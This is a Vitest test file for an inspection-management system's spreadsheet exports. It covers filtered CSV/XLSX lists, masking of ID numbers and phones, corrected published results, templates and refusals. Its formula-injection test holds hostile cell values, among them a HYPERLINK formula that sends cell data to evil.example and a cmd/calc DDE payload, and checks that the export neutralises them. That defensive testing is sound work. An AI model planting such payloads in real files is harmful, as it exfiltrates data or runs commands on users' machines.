// Exporting: every list view with its filters (the list query's own `where`) and the masking of personal data,
// published results with signed corrections applied, templates, and the refusals.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import ExcelJS from '../src/importing/excel.ts';
import { createTestApp, type TestApp } from './helpers.ts';
import { csvRows, fileRoutes } from './importHelpers.ts';
import { openSheet } from '../src/importing/writers.ts';

let t: TestApp;
let f: ReturnType<typeof fileRoutes>;
let admin: string;
let wenshao: string;

beforeAll(async () => {
  t = await createTestApp();
  f = fileRoutes(t);
  admin = await t.login('admin');
  wenshao = await t.login('wenshao');
});
afterAll(() => t?.close());

const q = (filter: unknown, extra = '') => `?filter=${encodeURIComponent(JSON.stringify(filter))}${extra}`;

describe('list exports', () => {
  it('exports the filtered target list as CSV (UTF-8 with BOM) with Chinese headers, in the list’s order', async () => {
    const unit = await t.prisma.unit.findUniqueOrThrow({ where: { code: 'GTS01' } });
    const res = await f.download(`/export/Target.csv${q({ unitId: unit.id, riskLevel: 'HIGH' }, '&sortField=name&sortOrder=DESC')}`, wenshao);
    expect(res.status).toBe(200);
    expect(res.type).toContain('text/csv');
    expect(res.disposition).toContain(`filename*=UTF-8''${encodeURIComponent('检查对象名录')}`);
    expect([...res.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = csvRows(res.body);
    expect(rows[0]!.slice(0, 4)).toEqual(['统一社会信用代码', '名称', '所属名录库', '维护单位']);
    const expected = await t.prisma.target.findMany({
      where: { unitId: unit.id, riskLevel: 'HIGH', retiredAt: null },
      orderBy: [{ name: 'desc' }, { id: 'asc' }],
    });
    expect(expected.length).toBeGreaterThan(0);
    expect(rows.slice(1).map((r) => r[0])).toEqual(expected.map((e) => e.creditCode));
    const risk = rows[0]!.indexOf('风险等级');
    expect(rows.slice(1).every((r) => r[3] === unit.name && r[risk] === '高风险')).toBe(true);
  });

  it('exports as .xlsx, and as GBK CSV on request', async () => {
    const res = await f.download('/export/CheckItem.xlsx', wenshao);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.body as never);
    const sheet = wb.worksheets[0]!;
    expect(sheet.name).toBe('抽查事项清单');
    expect(sheet.getRow(1).getCell(1).value).toBe('事项编码');
    expect(sheet.rowCount).toBe(1 + (await t.prisma.checkItem.count({ where: { retiredAt: null } })));
    expect(sheet.getRow(2).getCell(1).value).toBe('LZZR-01');

    const gbk = await f.download('/export/Expert.csv?encoding=gbk', admin);
    expect(gbk.type).toContain('gb18030');
    const iconv = (await import('iconv-lite')).default;
    expect(iconv.decode(gbk.body, 'gb18030').split('\r\n')[0] ?? iconv.decode(gbk.body, 'gb18030').split('\n')[0]).toContain('姓名');
  });

  it('masks personal data as the list does: other units’ inspectors’ ID numbers, no phones', async () => {
    const rows = csvRows((await f.download('/export/Inspector.csv', wenshao)).body);
    const own = await t.prisma.unit.findUniqueOrThrow({ where: { code: 'GTS01' } });
    const header = rows[0]!;
    const id = header.indexOf('身份证号');
    const unit = header.indexOf('所属单位');
    const phone = header.indexOf('电话');
    const others = rows.slice(1).filter((r) => r[unit] !== own.name);
    const mine = rows.slice(1).filter((r) => r[unit] === own.name);
    expect(others.length).toBeGreaterThan(0);
    expect(others.every((r) => r[id]!.includes('********') && r[phone] === '')).toBe(true);
    expect(mine.every((r) => /^\d{17}[\dX]$/.test(r[id]!))).toBe(true);
  });

  it('refuses a signed-out caller and a malformed filter', async () => {
    const anon = await f.download('/export/Target.csv');
    expect(anon.status).toBe(401);
    expect(JSON.parse(anon.body.toString()).errors[0].extensions.code).toBe('UNAUTHENTICATED');
    const bad = await f.download(`/export/Target.csv${q({ riskLevel: 'EXTREME' })}`, wenshao);
    expect(bad.status).toBe(400);
    expect(JSON.parse(bad.body.toString()).errors[0].extensions.code).toBe('IMPORT.FILTER_INVALID');
    expect((await f.download('/export/User.csv', admin)).status).toBe(404);
    // A day the calendar does not have (30 February) is refused, not read as 2 March.
    const feb30 = await f.download(`/export/Closure.csv${q({ from: '2026-02-30' })}`, admin);
    expect([feb30.status, JSON.parse(feb30.body.toString()).errors[0].extensions.code]).toEqual([400, 'IMPORT.FILTER_INVALID']);
    // A NUL byte in a filter value, which the database refuses: a typed refusal, not a 500.
    for (const list of ['Result', 'Closure']) {
      const nul = await f.download(`/export/${list}.csv?filter=${encodeURIComponent(JSON.stringify({ q: 'a\u0000', unitId: 'a\u0000' }))}`, admin);
      expect([list, nul.status, JSON.parse(nul.body.toString()).errors[0].extensions.code]).toEqual([list, 400, 'VALIDATION.INVALID']);
    }
    // A filter that is no JSON object (a number, a list, a string, broken JSON), on every list: refused, not a 500;
    // `null` means no filter, as in GraphQL.
    for (const list of ['Target', 'Result', 'Closure']) {
      expect((await f.download(`/export/${list}.csv?filter=null`, admin)).status, list).toBe(200);
      for (const raw of ['5', '[]', '"x"', '{']) {
        const r = await f.download(`/export/${list}.csv?filter=${encodeURIComponent(raw)}`, admin);
        const body = JSON.parse(r.body.toString()) as { errors: { extensions: { code: string } }[] };
        expect([list, raw, r.status, body.errors[0]!.extensions.code]).toEqual([list, raw, 400, 'IMPORT.FILTER_INVALID']);
      }
    }
  });

  it('gives a template per importable list, with a notes sheet', async () => {
    for (const kind of ['Target', 'Inspector', 'Expert', 'CheckItem']) {
      const res = await f.download(`/import/${kind}/template.xlsx`, wenshao);
      expect(res.status).toBe(200);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(res.body as never);
      expect(wb.worksheets.map((w) => w.name)[1]).toBe('填写说明');
      expect(wb.worksheets[0]!.rowCount).toBe(1);
    }
    const csv = csvRows((await f.download('/import/Inspector/template.csv', wenshao)).body);
    expect(csv[0]!.slice(0, 2)).toEqual(['姓名', '身份证号']);
  });
});

describe('published results', () => {
  it('exports only published results of public tasks, with every signed correction applied in order', async () => {
    const unit = await t.prisma.unit.findUniqueOrThrow({ where: { code: 'GTS01' } });
    const targets = await t.prisma.target.findMany({ where: { unitId: unit.id }, take: 3, orderBy: { creditCode: 'asc' } });
    const plan = await t.prisma.plan.create({ data: { unitId: unit.id, year: 2031, title: '导出测试计划' } });
    const task = await t.prisma.task.create({
      data: {
        code: 'EXP-1',
        name: '导出测试任务',
        planId: plan.id,
        ownerUnitId: unit.id,
        executingUnitId: unit.id,
        windowFrom: new Date('2031-03-01'),
        windowTo: new Date('2031-04-30'),
        status: 'COMPLETED',
      },
    });
    const user = await t.prisma.user.findUniqueOrThrow({ where: { username: 'wenshao' } });
    const statuses = ['PUBLISHED', 'PUBLISHED', 'APPROVED'] as const;
    for (const [i, target] of targets.entries()) {
      const tt = await t.prisma.taskTarget.create({ data: { taskId: task.id, targetId: target.id, status: 'INSPECTED' } });
      const result = await t.prisma.result.create({
        data: {
          taskTargetId: tt.id,
          status: statuses[i]!,
          outcome: 'NO_PROBLEM',
          method: 'ON_SITE',
          inspectedOn: new Date('2031-03-10'),
          dueOn: new Date('2031-05-29'),
          dueProvisional: i === 0,
          ...(statuses[i] === 'PUBLISHED' ? { publishedAt: new Date(`2031-04-0${i + 1}T02:00:00Z`) } : {}),
        },
      });
      if (i === 1) {
        await t.prisma.correction.create({
          data: {
            resultId: result.id,
            reason: '录入错误更正',
            changes: { outcome: 'CORRECTED_ON_ORDER' },
            proposedById: user.id,
            signedById: user.id,
            signedAt: new Date('2031-04-10T02:00:00Z'),
          },
        });
        // A second signed correction that only changes the remarks keeps the first one's outcome (rule 21).
        await t.prisma.correction.create({
          data: {
            resultId: result.id,
            reason: '补充说明',
            changes: { remarks: '已复核' },
            proposedById: user.id,
            signedById: user.id,
            signedAt: new Date('2031-04-12T02:00:00Z'),
          },
        });
      }
    }
    const rows = csvRows((await f.download(`/export/Result.csv${q({ taskId: task.id })}`, wenshao)).body);
    expect(rows[0]).toEqual([
      '任务编号',
      '抽查任务',
      '执行单位',
      '检查对象',
      '统一社会信用代码',
      '检查方式',
      '检查结果',
      '后续处置',
      '检查日期',
      '公示期限',
      '公示日期',
      '更正说明',
    ]);
    expect(rows.length).toBe(3);
    const byCode = new Map(rows.slice(1).map((r) => [r[4], r]));
    expect(byCode.get(targets[0]!.creditCode)).toEqual([
      'EXP-1',
      '导出测试任务',
      unit.name,
      targets[0]!.name,
      targets[0]!.creditCode,
      '实地核查',
      '未发现问题',
      '无',
      '2031-03-10',
      '2031-05-29（暂定）',
      '2031-04-01',
      '',
    ]);
    expect(byCode.get(targets[1]!.creditCode)![6]).toBe('发现问题经责令已改正');
    expect(byCode.get(targets[1]!.creditCode)![9]).toBe('2031-05-29');
    expect(byCode.get(targets[1]!.creditCode)![11]).toBe('录入错误更正；补充说明');
    expect(byCode.has(targets[2]!.creditCode)).toBe(false);
  });
});

describe('formula injection (CSV injection)', () => {
  const dangerous = ['=1+1', '+1', '-2+3', '@SUM(A1)', '\tx', '\rx'];
  const written = async (format: 'csv' | 'xlsx') => {
    const out = openSheet(format, '注入', ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'j']);
    await out.writer.addRow([...dangerous, 'plain', -5, 0.25, null]);
    void out.writer.end();
    return Buffer.from(await new Response(out.body).arrayBuffer());
  };

  it('quotes text that starts with = + - @ tab or CR in CSV; numbers, negative ones too, stay numbers', async () => {
    const body = await written('csv');
    expect(csvRows(body)[1]).toEqual([...dangerous.map((d) => `'${d}`), 'plain', '-5', '0.25', '']);
    // The number is written bare (Excel reads it as a number), not quoted as text.
    expect(body.toString('utf8')).toMatch(/,plain,-5,0\.25,\r?\n?$/);
  });

  it('keeps .xlsx cells strings (never formulas) and numbers numeric', async () => {
    const body = await written('xlsx');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(body as never);
    const row = wb.worksheets[0]!.getRow(2);
    // (XML reads a bare CR back as LF: no formula either way.)
    expect(dangerous.map((_, i) => row.getCell(i + 1).value)).toEqual(dangerous.map((d) => d.replace('\r', '\n')));
    expect(dangerous.map((_, i) => row.getCell(i + 1).type)).toEqual(dangerous.map(() => ExcelJS.ValueType.String));
    expect(row.getCell(8).value).toBe(-5);
    expect(row.getCell(8).type).toBe(ExcelJS.ValueType.Number);
  });

  it('neutralises a target’s hostile name in the export, and the export imports back unchanged', async () => {
    const unit = await t.prisma.unit.findUniqueOrThrow({ where: { code: 'GTS01' } });
    const target = await t.prisma.target.findFirstOrThrow({ where: { unitId: unit.id, retiredAt: null }, orderBy: { creditCode: 'asc' } });
    const hostile = { name: '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")', address: "@SUM(1+1)*cmd|' /C calc'!A0", legalRepresentative: '-2+3' };
    await t.prisma.target.update({ where: { id: target.id }, data: hostile });
    const res = await f.download(`/export/Target.csv${q({ q: target.creditCode })}`, wenshao);
    const rows = csvRows(res.body);
    expect(rows).toHaveLength(2);
    const cell = (header: string) => rows[1]![rows[0]!.indexOf(header)];
    expect(cell('名称')).toBe(`'${hostile.name}`);
    expect(cell('登记住所')).toBe(`'${hostile.address}`);
    expect(cell('法定代表人')).toBe(`'${hostile.legalRepresentative}`);

    const job = await f.prepare('Target', '导出.csv', res.body, wenshao);
    expect(job.counts).toMatchObject({ CREATE: 0, UPDATE: 0, REFUSED: 0, UNCHANGED: 1 });
  });
});
